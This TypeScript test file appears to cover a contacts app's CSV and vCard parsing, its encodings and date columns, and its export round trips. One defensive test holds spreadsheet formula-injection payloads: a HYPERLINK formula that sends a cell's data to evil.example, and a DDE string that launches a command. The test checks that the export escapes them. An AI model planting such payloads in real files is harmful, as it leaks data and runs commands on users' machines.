      ['René Schäfer', undefined, ['rene@example.de'], 'Kennt Jörg'],
    ]);
  });

  it('UTF-8 with a BOM', () => {
    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('Name,E-mail Address\nÄnne,a@example.org\n')]);
    expect(parseContactsFile(bytes, 'x.csv').contacts[0]).toMatchObject({ name: 'Änne', emails: ['a@example.org'] });
  });

  it('UTF-16 with a NUL byte after the text (a C string terminator): read, the byte left out', () => {
    const text = Buffer.from('Name,E-mail Address\r\nÄnne Alt,a@example.org\r\n', 'utf16le');
    for (const bytes of [
      new Uint8Array([...text, 0]),
      new Uint8Array([0xff, 0xfe, ...text, 0]),
      new Uint8Array([0xfe, 0xff, ...Buffer.from(text).swap16(), 0]),
    ]) {
      const r = parseContactsFile(bytes, 'x.csv');
      expect(r.errors).toEqual([]);
      expect(r.contacts.map((c) => [c.name, c.emails])).toEqual([['Änne Alt', ['a@example.org']]]);
    }
  });

  it('a UTF-8 BOM before bytes that are not UTF-8: the code page they fit, said to be a guess, no U+FFFD', () => {
    // "Änne" in Windows-1252 behind a UTF-8 BOM (a tool that wrote the BOM but not the text as UTF-8).
    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('Name,E-mail Address\n'), 0xc4, ...utf8('nne,a@x.org\n')]);
    const r = parseContactsFile(bytes, 'x.csv');
    expect(r).toMatchObject({ encoding: 'windows-1252', encodingGuessed: true });
    expect(r.contacts[0]).toMatchObject({ name: 'Änne', emails: ['a@x.org'] });
  });
});

describe('a legacy code page chosen by what the bytes make of names', () => {
  /** Text in a code page, by the browser's own table for it (TextEncoder writes only UTF-8). */
  const encode = (text: string, encoding: LegacyEncoding) => {
    const decoder = new TextDecoder(encoding);
    const byChar = new Map<string, number>();
    for (let b = 255; b >= 0; b--) byChar.set(decoder.decode(new Uint8Array([b])), b);
    return new Uint8Array([...text].map((ch) => byChar.get(ch) ?? Number.NaN));
  };

  it.each<[LegacyEncoding, string]>([
    ['macintosh', 'Jürgen;Weiß\rKöhler;Schäfer'],
    ['macintosh', 'Anna Müller'],
    ['macintosh', 'Jäger'],
    ['macintosh', 'Köln'],
    ['macintosh', 'Ärzte;Österreich;Übersee'],
    ['macintosh', 'René Dupré, Café Zoë'],
    ['macintosh', '„Anna“ Müller – Bäckerei'],
    ['windows-1252', 'Jürgen;Weiß\r\nKöhler;Schäfer'],
    ['windows-1252', 'Anna Müller'],
    ['windows-1252', 'Ärzte;Österreich;Übersee'],
    ['windows-1252', 'René Dupré, Café Zoë'],
    ['windows-1250', 'Łukasz Wróbel'],
    ['windows-1250', 'Jiří Dvořák, Tomáš Černý'],
    ['windows-1250', 'Šťastný'],
    ['windows-1250', 'Łódź, Koźmiński'],
    ['windows-1250', 'Erdős Pál'],
    ['iso-8859-2', 'Zażółć gęślą jaźń, Śląsk'],
  ])('%s: %s', (encoding, text) => {
    const bytes = encode(text, encoding);
    expect(
      bytes.every((b) => Number.isInteger(b)),
      'every character is in the code page',
    ).toBe(true);
    expect(decodeLegacy(bytes)).toEqual({ text, encoding });
  });
});

describe('a list\'s last contact (a networking list\'s "Letzter Kontakt")', () => {
  const noon = (y: number, m: number, d: number) => new Date(y, m - 1, d, 12).getTime();

  it('is read as that day, written as German lists write dates; the file says the order of its slash dates', () => {
    const csv =
      'Vorname;Nachname;Firma;Letzter Kontakt\r\n' +
      'Anna;Alt;Alt GmbH;28.10.2026\r\n' +
      'Ben;Berg;;3.2.25\r\n' +
      'Cem;Cakir;;2026-11-30\r\n' +
      'Dora;Dorn;;\r\n';
    const r = parseContactsFile(utf8(csv), 'netzwerk.csv', READ_ON);
    expect(r.errors).toEqual([]);
    expect(r.contacts.map((c) => [c.name, c.lastContactedAt])).toEqual([
      ['Anna Alt', noon(2026, 10, 28)],
      ['Ben Berg', noon(2025, 2, 3)],
      ['Cem Cakir', noon(2026, 11, 30)],
      ['Dora Dorn', undefined],
    ]);
    // An English list's slash dates, month first where one of them says so (13 is no month).
    const en = 'Name,Last contacted\r\nEva Eck,10/13/2026\r\nFinn Falk,11/02/2026\r\n';
    expect(parseContactsFile(utf8(en), 'network.csv', READ_ON).contacts.map((c) => c.lastContactedAt)).toEqual([
      noon(2026, 10, 13),
      noon(2026, 11, 2),
    ]);
  });

  it("a list's names in one cell: parted by commas or semicolons, one in quotation marks whole", () => {
    const csv = 'Name;Kategorien\r\nAnna Alt;"""Kunden, alt"", Freunde"\r\nBen Berg;"Kunden;Messe"\r\n';
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => c.circles)).toEqual([
      ['Kunden, alt', 'Freunde'],
      ['Kunden', 'Messe'],
    ]);
  });

  it('beside it, how they met and who introduced them, as a list names them', () => {
    const csv =
      'Name;Kennengelernt;Empfohlen von;Letzter Kontakt\r\nAnna Alt;Barcamp Köln 2024;Ben Berg;28.10.2026\r\n';
    const [anna] = parseContactsFile(utf8(csv), 'netzwerk.csv', READ_ON).contacts;
    expect([anna?.metVia, anna?.introducedBy, anna?.lastContactedAt]).toEqual([
      'Barcamp Köln 2024',
      'Ben Berg',
      noon(2026, 10, 28),
    ]);
  });
});

describe('a list\'s follow-up (a networking list\'s "Wiedervorlage", "Nächster Kontakt")', () => {
  const midnight = (y: number, m: number, d: number) => new Date(y, m - 1, d).getTime();

  it('is read as that day, by whatever a list calls it; a day gone by too, and a year in two digits the nearest', () => {
    const csv =
      'Name;Wiedervorlage\r\nAnna Alt;15.01.2027\r\nBen Berg;3.2.27\r\nCem Cakir;01.09.2026\r\nDora Dorn;\r\nEva Eck;2.3.98\r\n';
    const r = parseContactsFile(utf8(csv), 'netzwerk.csv', READ_ON);
    expect(r.errors).toEqual([]);
    expect(r.contacts.map((c) => [c.name, c.followUp])).toEqual([
      ['Anna Alt', { at: midnight(2027, 1, 15) }],
      ['Ben Berg', { at: midnight(2027, 2, 3) }],
      ['Cem Cakir', { at: midnight(2026, 9, 1) }],
      ['Dora Dorn', undefined],
      ['Eva Eck', { at: midnight(1998, 3, 2) }],
    ]);
    // What it is about, in the list's "Nächster Schritt": the follow-up's note.
    const steps = parseContactsFile(
      utf8('Name;Wiedervorlage;Nächster Schritt\r\nAnna Alt;15.01.2027;Angebot nachfassen\r\nBen Berg;;Anrufen\r\n'),
      'netzwerk.csv',
      READ_ON,
    ).contacts;
    expect(steps.map((c) => [c.followUp, c.notes])).toEqual([
      [{ at: midnight(2027, 1, 15), note: 'Angebot nachfassen' }, undefined],
      // A next step without a day is kept in the note.
      [undefined, 'Anrufen'],
    ]);
    for (const heading of ['Nächster Kontakt', 'Nachfassen am', 'Follow-up', 'Next contact', 'Follow up date']) {
      const [one] = parseContactsFile(utf8(`Name;${heading}\r\nAnna Alt;2027-01-15\r\n`), 'x.csv', READ_ON).contacts;
      expect(one?.followUp, heading).toEqual({ at: midnight(2027, 1, 15) });
    }
  });
});

describe("a list's day that cannot be read: said, and the person imported without it", () => {
  it.each([
    // A last contact still to come, or without its year.
    ['Letzter Kontakt', 'lastContactedAt', 'unreadLastContact', ['24.12.2026', '23.4.', 'letzte Woche']],
    // A follow-up without its year, or too far ahead to be meant.
    ['Nächster Kontakt', 'followUp', 'unreadFollowUp', ['15.1.', '01.01.2040', 'nächste Woche']],
  ] as const)('"%s"', (heading, field, code, written) => {
    // A fourth row's "-" is an empty cell written so: nothing said.
    const rows = ['Anna Alt', 'Ben Berg', 'Cem Cakir'].map((name, i) => `${name};${written[i]}`);
    const csv = `Name;${heading}\r\n${rows.join('\r\n')}\r\nDora Dorn;-\r\n`;
    const r = parseContactsFile(utf8(csv), 'netzwerk.csv', READ_ON);
    expect(r.contacts.map((c) => c[field])).toEqual([undefined, undefined, undefined, undefined]);
    expect(r.errors).toEqual(written.map((detail, i) => ({ code, record: i + 1, line: i + 2, detail })));
  });
});

describe('how often to get in touch, as a list writes it', () => {
  it.each<[string, number | null | undefined]>([
    ['monatlich', 30],
    ['Jeden Monat', 30],
    ['wöchentlich', 7],
    ['vierteljährlich', 91],
    ['quartalsweise', 91],
    ['halbjährlich', 182],
    ['jährlich', 365],
    ['every six months', 182],
    ['every 2 weeks', 14],
    ['alle 2 Wochen', 14],
    ['alle 3 Monate', 91],
    ['alle 10 Tage', 10],
    ['14', 14],
    ['2 Jahre', 730],
    ['nie', null],
    ['keine Erinnerung', null],
    ['never', null],
    ['ab und zu', undefined],
    ['0', undefined],
    ['alle 20 Jahre', undefined],
  ])('"%s" → %s', (written, days) => {
    expect(readCadence(written)).toBe(days);
  });

  it.each(['de', 'en'])(
    "reads every cadence as the form names it in %s (what the spreadsheet's list writes)",
    (lang) => {
      const messages = JSON.parse(
        readFileSync(new URL(`../../src/_locales/${lang}/messages.json`, import.meta.url), 'utf8'),
      ) as Record<string, { message: string }>;
      const say = (key: string) => messages[key]?.message ?? `(no ${key})`;
      expect(readCadence(say('cadenceWeekly'))).toBe(CADENCES.weekly);
      expect(readCadence(say('cadenceMonthly'))).toBe(CADENCES.monthly);
      expect(readCadence(say('cadenceQuarterly'))).toBe(CADENCES.quarterly);
      expect(readCadence(say('cadenceHalfYearly'))).toBe(CADENCES.halfYearly);
      expect(readCadence(say('cadenceYearly'))).toBe(CADENCES.yearly);
      expect(readCadence(say('cadenceNone'))).toBe(CADENCES.none);
      expect(readCadence(say('cadenceEveryDays_one'))).toBe(1);
      expect(readCadence(say('cadenceEveryDays_other').replace('$1', '10'))).toBe(10);
    },
  );

  it("a list's column of them: each person's cadence; one not read is said, and the person keeps the usual one", () => {
    const csv = 'Name;Kontaktrhythmus\r\nAnna Alt;monatlich\r\nBen Berg;nie\r\nCem Cakir;ab und zu\r\nDora Dorn;\r\n';
    const r = parseContactsFile(utf8(csv), 'netzwerk.csv', READ_ON);
    expect(r.contacts.map((c) => [c.name, c.cadenceDays])).toEqual([
      ['Anna Alt', 30],
      ['Ben Berg', null],
      ['Cem Cakir', undefined],
      ['Dora Dorn', undefined],
    ]);
    expect(r.errors).toEqual([{ code: 'unreadCadence', record: 3, line: 4, detail: 'ab und zu' }]);
  });

  it('a spreadsheet exported before the German label became "Wie oft melden" (its column "Melden") reads the same', () => {
    for (const header of ['Melden', 'Wie oft melden']) {
      const r = parseContactsFile(utf8(`Name;${header}\r\nAnna Alt;jedes Quartal\r\n`), 'reconnect.csv', READ_ON);
      expect(
        r.contacts.map((c) => [c.name, c.cadenceDays]),
        header,
      ).toEqual([['Anna Alt', CADENCES.quarterly]]);
    }
  });
});

describe('cells a spreadsheet program wrote as formulas of their text', () => {
  it('="…" is read as its text: a phone number with its 0, a name, a quote inside', () => {
    const csv = 'Vorname;Nachname;Telefon;Firma\r\n="Anna";Alt;="01701234567";"=""Alt """"&"""" Söhne"""\r\n';
    const r = parseContactsFile(utf8(csv), 'shop-export.csv', READ_ON);
    expect(r.errors).toEqual([]);
    expect(r.contacts).toEqual([{ name: 'Anna Alt', emails: [], phones: ['01701234567'], company: 'Alt "&" Söhne' }]);
  });
});

describe('CSV files without a header, or with one we do not know', () => {
  const people = (name: string) => parseContactsFile(file(name), name);

  it('LinkedIn\'s export without its header: recognised by its shape, nobody lost to the "header"', () => {
    const r = people('linkedin-connections-noheader.csv');
    expect(r.csv).toMatchObject({ header: null, certain: true, linkedIn: true });
    expect(r.contacts.map((c) => [c.name, c.company, c.role, c.emails, c.profiles?.[0]?.url, c.metVia])).toEqual([
      [
        'Erika Mustermann',
        'Beispiel GmbH',
        'Projektleiterin, Digital',
        [],
        'https://www.linkedin.com/in/erika-mustermann',
        'LinkedIn',
      ],
      ['John Doe', 'Acme, Inc.', 'CTO', ['john@example.com'], 'https://www.linkedin.com/in/johndoe-1234', 'LinkedIn'],
    ]);
  });

  it('rows a spreadsheet wrapped whole in quotes are read as the rows they are', () => {
    const r = people('linkedin-connections-resaved.csv');
    expect(r.contacts.map((c) => [c.name, c.company, c.role])).toEqual([
      ['Erika Mustermann', 'Beispiel GmbH', 'Projektleiterin, Digital'],
      ['John Doe', 'Acme, Inc.', 'CTO'],
      ['Mia Schulz', 'Schulz & Partner', 'Inhaberin'],
    ]);
    expect(r.errors).toEqual([]);
  });

  it("Thunderbird's export without a header: its 37 columns by their places", () => {
    const r = people('thunderbird-noheader.csv');
    expect(r.csv?.certain).toBe(true);
    expect(r.contacts[0]).toMatchObject({
      name: 'Anna Beispiel',
      emails: ['anna@example.org'],
      phones: ['+49 30 5550100', '+49 170 5550101'],
      company: 'Beispiel AG',
      role: 'Designerin',
      location: 'Berlin',
      notes: 'Kennt Ben',
    });
    expect(r.contacts[1]).toMatchObject({ name: 'Ben Bauer', emails: ['ben@example.com'] });
  });

  it('a layout nobody knows: the columns read by their content, and the user asked to check them', () => {
    const r = people('noheader-unknown.csv');
    expect(r.csv).toMatchObject({ header: null, certain: false, roles: ['name', 'email', 'phone'] });
    expect(r.contacts.map((c) => c.name)).toEqual(['Carla Cruz', 'Dieter Dorn']);
  });

  it('a header in a language we do not know: its columns read by their content, to be checked', () => {
    const r = people('swedish-header.csv');
    expect(r.csv).toMatchObject({ certain: false, roles: ['first', 'last', 'email', 'phone'] });
    expect(r.contacts[0]).toMatchObject({ name: 'Astrid Lindqvist', phones: ['+46 70 555 01 23'] });
    // A row without any name is named by its email, as address books show it.
    expect(r.contacts[1]?.name).toBe('nurmail@example.se');
  });

  it('the user says what the columns hold: the rows are read again with those roles', () => {
    const r = people('noheader-unknown.csv');
    const layout = r.csv;
    if (!layout) throw new Error('no layout');
    const again = readRows(layout.rows, ['ignore', 'email', 'ignore'], layout);
    expect(again.contacts.map((c) => [c.name, c.phones])).toEqual([
      ['carla@example.org', undefined],
      ['dieter@example.org', undefined],
    ]);
    const none = readRows(layout.rows, ['ignore', 'ignore', 'phone'], layout);
    expect(none.errors).toEqual([
      { code: 'noName', record: 1, line: 1 },
      { code: 'noName', record: 2, line: 2 },
    ]);
  });
});

describe('bad input: a clear error, never a throw', () => {
  it.each([
    ['empty', new Uint8Array(), 'empty'],
    ['whitespace only', utf8('   \n  '), 'empty'],
    [
      'binary (a PNG)',
      new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]),
      'binary',
    ],
    // UTF-16 by its zero bytes, but a byte left over: damaged (a U+FFFD would be a name nobody has).
    ['UTF-16 by its zero bytes, a byte left over', new Uint8Array([1, 0, 10, 0, 0x41]), 'damaged'],
    ['UTF-16 by its zero bytes, a lone surrogate', new Uint8Array([0x41, 0, 0x3d, 0xd8, 0x0a, 0]), 'damaged'],
    ['UTF-16 by its BOM, cut inside a character', new Uint8Array([0xff, 0xfe, 0x41, 0, 0x42]), 'damaged'],
    ['UTF-16 by its BOM, a lone surrogate', new Uint8Array([0xfe, 0xff, 0, 0x41, 0xd8, 0x3d, 0, 0x0a]), 'damaged'],
    ['not a contacts file', utf8('\u0001\u0002 just noise'), 'unknownFormat'],
    ['a JSON file that is not our backup', utf8('{"hello": "world"}'), 'badBackup'],
    [
      'a backup a newer version wrote (not "not a backup")',
      utf8('{"app": "reconnect", "version": 2, "contacts": [{"id": "a", "name": "Anna"}]}'),
      'newerBackup',
    ],
  ])('%s', (_, bytes, code) => {
    const r = parseContactsFile(bytes, 'file.bin');
    expect(r.contacts).toEqual([]);
    expect(r.errors[0]?.code).toBe(code);
  });

  it("a spreadsheet's own file is said as one, with the way to a CSV; any other zip is no text file", () => {
    const zip = new Uint8Array([0x50, 0x4b, 3, 4, 20, 0, 6, 0, 8, 0, 0, 0, 0x21, 0]);
    const ole = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
    for (const [bytes, name] of [
      [zip, 'Mitglieder.xlsx'],
      [zip, 'liste.ODS'],
      [zip, 'Kontakte.numbers'],
      [ole, 'alt.xls'],
    ] as const)
      expect(parseContactsFile(bytes, name).errors, name).toEqual([{ code: 'spreadsheet' }]);
    expect(parseContactsFile(zip, 'fotos.zip').errors).toEqual([{ code: 'binary' }]);
    // A CSV file named as a spreadsheet is read as what it is.
    expect(parseContactsFile(utf8('Name,E-Mail\nAnna Alt,anna@alt.de\n'), 'liste.xls').contacts).toHaveLength(1);
  });

  it('a quotation mark that opens a field and never closes it: the people before its line, and that line said', () => {
    // papaparse reads the rest of the file into that one field: Ben, Cora and Dora would be one "name".
    const r = parseContactsFile(
      utf8(
        'Name;E-Mail\nAnna Alt;anna@example.org\n"Ben Bauer;ben@example.org\nCora Neu;cora@example.org\nDora;d@x.org\n',
      ),
      'kontakte.csv',
    );
    expect(r.contacts.map((c) => [c.name, c.emails])).toEqual([['Anna Alt', ['anna@example.org']]]);
    expect(r.errors).toEqual([{ code: 'unclosedQuote', line: 3 }]);
    // In the first data line; and below a quoted field that spans two lines, which is read as before.
    const early = parseContactsFile(utf8('Name,Email\n"Anna,anna@example.org\nBen,ben@example.org\n'), 'a.csv');
    expect(early.contacts).toEqual([]);
    expect(early.errors).toEqual([{ code: 'unclosedQuote', line: 2 }]);
    const later = parseContactsFile(
      utf8('First Name,Last Name,Notes\nAnna,Alt,"two\nlines"\nBen,Bauer,"never closed\nCora,Neu,x\n'),
      'b.csv',
    );
    expect(later.contacts.map((c) => [c.name, c.notes])).toEqual([['Anna Alt', 'two\nlines']]);
    expect(later.errors).toEqual([{ code: 'unclosedQuote', line: 4 }]);
    // Lines ended by CR alone (a Mac's old CSV), and by CRLF.
    for (const eol of ['\r', '\r\n']) {
      const mac = parseContactsFile(
        utf8(['Name,Email', 'Anna,a@x.org', '"Ben,b@x.org', 'Cora,c@x.org', ''].join(eol)),
        'd.csv',
      );
      expect([mac.contacts.map((c) => c.name), mac.errors]).toEqual([['Anna'], [{ code: 'unclosedQuote', line: 3 }]]);
    }
    // A file without one is read as before: nothing said.
    expect(parseContactsFile(utf8('Name,Email\n"Alt, Anna",anna@example.org\n'), 'c.csv').errors).toEqual([]);
  });

  it('a vCard without END:VCARD is read up to the next card and said; lines outside every card are said, not read', () => {
    const card = (...lines: string[]) => ['BEGIN:VCARD', 'VERSION:3.0', ...lines].join('\r\n');
    // Anna's END is missing: she and Ben were both lost, without a word.
    const noEnd = parseContactsFile(
      utf8(`${card('FN:Anna Alt', 'EMAIL:anna@example.org')}\r\n${card('FN:Ben Bauer', 'END:VCARD')}\r\n`),
      'a.vcf',
    );
    expect(noEnd.contacts.map((c) => [c.name, c.emails])).toEqual([
      ['Anna Alt', ['anna@example.org']],
      ['Ben Bauer', []],
    ]);
    expect(noEnd.errors).toEqual([{ code: 'unclosedCard', record: 1, line: 1 }]);
    // A file cut off in its last card: what is there is read.
    const cut = parseContactsFile(utf8(`${card('FN:Anna Alt', 'END:VCARD')}\r\n${card('FN:Ben Bau')}`), 'b.vcf');
    expect(cut.contacts.map((c) => c.name)).toEqual(['Anna Alt', 'Ben Bau']);
    expect(cut.errors).toEqual([{ code: 'unclosedCard', record: 2, line: 5 }]);
    // Ben's BEGIN is missing: his lines are said (the first of them), Cora after him is read.
    const noBegin = parseContactsFile(
      utf8(
        `${card('FN:Anna Alt', 'END:VCARD')}\r\nVERSION:3.0\r\nFN:Ben Bauer\r\nEND:VCARD\r\n${card('FN:Cora', 'END:VCARD')}`,
      ),
      'c.vcf',
    );
    expect(noBegin.contacts.map((c) => c.name)).toEqual(['Anna Alt', 'Cora']);
    expect(noBegin.errors).toEqual([{ code: 'outsideCard', line: 5 }]);
    // An old program's end-of-file mark (Ctrl-Z) after the last card is nothing to say.
    const ctrlZ = parseContactsFile(utf8(`${card('FN:Anna Alt', 'END:VCARD')}\r\n\u001a`), 'e.vcf');
    expect([ctrlZ.contacts.length, ctrlZ.errors]).toEqual([1, []]);
    // vCard 2.1's AGENT: a card on the lines after it belongs to its parent, which goes on after it.
    const agent = parseContactsFile(
      utf8(
        `${card('FN:Anna Alt', 'AGENT:', 'BEGIN:VCARD', 'FN:Sam Sekretär', 'END:VCARD', 'EMAIL:anna@example.org', 'END:VCARD')}\r\n`,
      ),
      'd.vcf',
    );
    expect(agent.contacts.map((c) => [c.name, c.emails])).toEqual([['Anna Alt', ['anna@example.org']]]);
    expect(agent.errors).toEqual([]);
  });

  it('refuses a file over the size limit before reading it', () => {
    const r = parseContactsFile(new Uint8Array(MAX_IMPORT_BYTES + 1), 'huge.vcf');
    expect(r.errors).toEqual([{ code: 'tooLarge', detail: '25' }]);
  });
});

describe('round trips: export → import gives the same people', () => {
  const people: ContactDraft[] = [
    {
      name: 'Jürgen Müller, Jr.',
      company: 'Bäckerei; Müller',
      role: 'Inhaber',
      emails: ['juergen@example.de', 'j@example.org'],
      phones: ['+49 221 555 0100'],
      profiles: [
        { site: 'xing', url: 'https://www.xing.com/profile/Juergen_Mueller' },
        { site: 'linkedin', url: 'https://www.linkedin.com/in/juergen' },
      ],
      notes: 'Zeile 1\nZeile 2, mit Komma; und Semikolon \\ Backslash',
      birthday: { year: 1970, month: 2, day: 28 },
      circles: ['Verein', 'Kunden'],
      location: 'Köln, Nordrhein-Westfalen; Deutschland',
      photoUrl: 'https://media.example.org/juergen.jpg',
    },
    { name: 'Zoë 李', emails: [] },
  ];

  it.each(['4.0', '3.0'] as const)('vCard %s', (version) => {
    const out = writeVCards(people, version);
    for (const line of out.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    const back = parseContactsFile(utf8(out), 'export.vcf').contacts;
    expect(back).toEqual(people.map((p) => ({ ...p, emails: p.emails ?? [] })));
  });

  it('Google CSV', () => {
    const back = parseContactsFile(utf8(writeGoogleCsv(people)), 'export.csv').contacts;
    expect(
      back.map((c) => [c.name, c.company, c.role, c.emails, c.phones, c.profiles, c.notes, c.birthday, c.circles]),
    ).toEqual(
      people.map((c) => [c.name, c.company, c.role, c.emails, c.phones, c.profiles, c.notes, c.birthday, c.circles]),
    );
    expect(back.map((c) => [c.location, c.photoUrl])).toEqual(people.map((c) => [c.location, c.photoUrl]));
  });

  it("Google CSV: a cell a spreadsheet would run as a formula is written with a ' first, and read back without it", () => {
    const hostile: ContactDraft = {
      name: '=HYPERLINK("https://evil.example/?"&A1,"Anna")',
      role: '@SUM(1+1)',
      company: '-2+3',
      notes: '+cmd|" /C calc"!A0',
      phones: ['+49 30 1234567', '-1'],
      // Written with a ' before such a character already: one more, so it reads back as it was.
      location: "'=Köln",
    };
    const csv = writeGoogleCsv([hostile]);
    const cells = csv.split('\r\n')[1] ?? '';
    for (const v of [hostile.name, hostile.role, hostile.company, hostile.notes])
      expect(cells, v).toContain(`"'${String(v).replaceAll('"', '""')}"`);
    // A phone number's + and a bare "-1" stay as written: they are no formula a spreadsheet runs.
    expect(cells).toContain(',+49 30 1234567,');
    const [back] = parseContactsFile(utf8(csv), 'export.csv').contacts;
    expect([back?.name, back?.role, back?.company, back?.notes, back?.phones, back?.location]).toEqual([
      hostile.name,
      hostile.role,
      hostile.company,
      hostile.notes,
      hostile.phones,
      hostile.location,
    ]);
  });

  /** The headings the options page gives a spreadsheet's list, in German and in English. */
  const HEADINGS = {
    de: {
      name: 'Name',
      role: 'Position',
      company: 'Unternehmen',
      location: 'Ort',
      photoUrl: 'Foto-Link',
      profiles: 'Profil-Link',
      emails: 'E-Mail',
      phones: 'Telefon',
      circles: 'Kreise',
      notes: 'Notiz',
      metVia: 'Wie wir uns kennen',
      introducedBy: 'Vorgestellt von',
      birthday: 'Geburtstag',
      cadenceDays: 'Wie oft melden',
      salutation: 'Anrede',
      lastContactedAt: 'Zuletzt kontaktiert',
      followUp: 'Nachfassen am',
      followUpNote: 'Nachfassen: worum es geht',
    },
    en: {
      name: 'Name',
      role: 'Role',
      company: 'Company',
      location: 'Location',
      photoUrl: 'Photo link',
      profiles: 'Profile link',
      emails: 'Email',
      phones: 'Phone',
      circles: 'Circles',
      notes: 'Note',
      metVia: 'How we met',
      introducedBy: 'Introduced by',
      birthday: 'Birthday',
      cadenceDays: 'Get in touch',
      salutation: 'Salutation',
      lastContactedAt: 'Last contacted',
      followUp: 'Follow up on',
      followUpNote: 'Follow-up: about',
    },
  } as const;

  /** Cadences as the form names them (the options page passes its own: ui/contact-controls.tsx cadenceName). */
  const WORDS = {
    de: {
      cadence: (d: number | null) => (d === null ? 'keine Erinnerung' : d === 30 ? 'jeden Monat' : `alle ${d} Tage`),
    },
    en: { cadence: (d: number | null) => (d === null ? 'no reminders' : d === 30 ? 'every month' : `every ${d} days`) },
  };

  it.each([
    ['de', ';'],
    ['en', ','],
  ] as const)('a list for a spreadsheet (CSV for Excel), headed in %s, cells parted by "%s"', (language, delimiter) => {
    const headings: Record<string, string> = HEADINGS[language];
    // How they met, who introduced them and the day of the last contact too, which of these files only a
    // spreadsheet's list carries (the day as its noon, as it is read).
    const listed = people.map((p, i) =>
      i
        ? p
        : {
            ...p,
            metVia: 'Barcamp Köln; 2024',
            introducedBy: 'Dora Dorn',
            lastContactedAt: new Date(2026, 9, 28, 12).getTime(),
            // A follow-up planned (its day's midnight, as the contact log plans one).
            followUp: { at: new Date(2027, 0, 15).getTime(), note: 'Angebot nachfassen' },
            cadenceDays: 30,
            // A circle with a comma and quotation marks of its own comes back whole.
            circles: ['Verein', 'Kunden', 'Kunden, "alt"'],
            salutation: 'Herr',
            formal: true as const,
          },
    );
    const csv = writeSheetCsv(listed, { label: (f) => headings[f] ?? f, delimiter, words: WORDS[language] });
    // A byte order mark first: without one Excel reads UTF-8 as its code page ("JÃ¼rgen").
    expect(csv.startsWith('\ufeff')).toBe(true);
    const [header] = csv.slice(1).split('\r\n');
    const h = headings;
    expect(header?.split(delimiter)).toEqual([
      h.name,
      h.role,
      h.company,
      h.location,
      h.photoUrl,
      `${h.profiles} 1`,
      `${h.profiles} 2`,
      `${h.emails} 1`,
      `${h.emails} 2`,
      `${h.phones} 1`,
      h.circles,
      h.notes,
      h.metVia,
      h.introducedBy,
      h.birthday,
      h.cadenceDays,
      h.salutation,
      h.lastContactedAt,
      h.followUp,
      h.followUpNote,
    ]);
    // The circles as a list is written, not parted by Google's " ::: ".
    expect(csv).toContain('Verein, Kunden');
    expect(csv).toContain(`${delimiter}2026-10-28${delimiter}2027-01-15${delimiter}Angebot nachfassen\r\n`);
    const back = parseContactsFile(utf8(csv), 'reconnect.csv', READ_ON).contacts;
    expect(back).toEqual(listed.map((p) => ({ ...p, emails: p.emails ?? [] })));
  });

  it("a list for a spreadsheet: a phone number Excel would take for a number is a formula of its text; a formula's cell gets its '", () => {
    const person: ContactDraft = {
      name: 'Anna Alt',
      role: '=1+1',
      phones: ['01701234567', '+491701234567', '+49 170 1234567'],
    };
    const csv = writeSheetCsv([person], { label: (f) => f, delimiter: ';', words: WORDS.en });
    const row = csv.split('\r\n')[1] ?? '';
    // Excel shows 1701234567 and 4,91701E+11 for these when they are plain; as ="…" it shows them as written.
    expect(row).toContain(';"=""01701234567""";"=""+491701234567""";+49 170 1234567;');
    expect(row).toContain(";'=1+1;");
    const [back] = parseContactsFile(utf8(csv), 'reconnect.csv').contacts;
    expect([back?.role, back?.phones]).toEqual([person.role, person.phones]);
  });

  it('JSON backup keeps every field, history and interactions included', () => {
    let n = 0;
    const full = people.map((p) => ({
      ...createContact(p, 'imported', 1_700_000_000_000, () => `id-${++n}`),
      interactions: [{ at: 1_700_000_100_000, kind: 'call' as const, note: 'Hi' }],
      history: [{ at: 1_700_000_200_000, field: 'role' as const, from: 'A', to: 'B' }],
      lastContactedAt: 1_700_000_100_000,
      // Told apart from the next one ("Different people"): the mark is on the people.
      related: [{ kind: 'distinct' as const, id: `id-${n + 1}`, name: 'Next' }],
    }));
    const r = parseContactsFile(utf8(makeBackup(full, { weekday: 3 }, 1_700_000_300_000)), 'backup.json');
    expect(r.format).toBe('json');
    expect(r.backup?.contacts).toEqual(full);
    expect(r.backup?.settings).toEqual({ weekday: 3 });
    // No list of pairs beside them any more (0.7.0 wrote one; it is still read).
    expect(r.backup?.distinct).toEqual([]);
  });

  it('a backup from before the "Different people" marks, or with damaged ones, reads as having none', () => {
    const person = createContact({ name: 'Old Backup' }, 'manual', 1, () => 'old-1');
    const old = { app: 'reconnect', version: 1, exportedAt: '2026-01-01T00:00:00.000Z', contacts: [person] };
    expect(parseContactsFile(utf8(JSON.stringify(old)), 'old.json').backup?.distinct).toEqual([]);
    const damaged = { ...old, distinct: 'a\nb' };
    expect(parseContactsFile(utf8(JSON.stringify(damaged)), 'old.json').backup?.distinct).toEqual([]);
    const mixed = { ...old, distinct: ['a\nb', 3, null] };
    expect(parseContactsFile(utf8(JSON.stringify(mixed)), 'old.json').backup?.distinct).toEqual(['a\nb']);
  });
});
